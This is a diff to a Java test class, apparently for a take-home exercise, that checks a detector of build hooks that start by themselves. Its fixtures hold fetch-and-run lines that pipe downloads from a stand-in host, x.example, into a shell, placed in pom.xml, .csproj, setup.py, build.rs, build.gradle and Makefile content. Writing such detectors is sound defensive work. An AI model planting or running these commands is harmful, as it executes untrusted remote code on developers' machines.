@@ -66,6 +66,8 @@ final class TakeHomeTest {
           setup.py § os.system("curl https://x.example/a | sh")
           build.rs § Command::new("sh").arg("-c").arg("curl https://x.example/a | sh");
           build.gradle § "bash -c 'curl -s https://x.example | bash'".execute()
+          pom.xml § <phase>initialize</phase><exec executable="sh"><arg value="-c"/><arg value="curl -s https://x.example/a | sh"/></exec>
+          a.csproj § <Exec Command='curl -s https://x.example/a | sh' Condition="true" />
           """)
   void what_starts_by_itself_and_is_bad_is_seen(String path, String text) {
     assertThat(look(new StartsItself(), ToldRepository.of(path, text).end()))
@@ -92,9 +94,23 @@ final class TakeHomeTest {
           build.rs § println!("cargo:rerun-if-changed=proto/orders.proto");
           README.md § curl -s https://x.example/s | sh
           Makefile § install: ; curl -sSf https://sh.rustup.rs | sh
+          pom.xml § <exec executable="sh"><arg value="-c"/><arg value="npm ci"/></exec>
+          .github/workflows/ci.yml § run: bash <(curl -s https://codecov.io/bash)
           """)
   void what_starts_by_itself_and_is_usual_is_left_alone(String path, String text) {
     assertThat(look(new StartsItself(), ToldRepository.of(path, text).end()))
+        .isInstanceOf(Look.Nothing.class);
+  }
+
+  @Test
+  void a_command_is_read_with_the_values_of_its_variables() {
+    String fetches = "\t@curl -sSL $(URL) -o $(BIN) && chmod +x $(BIN) && $(BIN)";
+    String own = "BIN := /tmp/a\nURL := https://x.example/a\nall:\n" + fetches;
+    String known = own.replace("x.example", "github.com/acme/tool/releases/download/v1");
+
+    assertThat(look(new StartsItself(), ToldRepository.of("Makefile", own).end()))
+        .isInstanceOf(Look.Seen.class);
+    assertThat(look(new StartsItself(), ToldRepository.of("Makefile", known).end()))
         .isInstanceOf(Look.Nothing.class);
   }
 
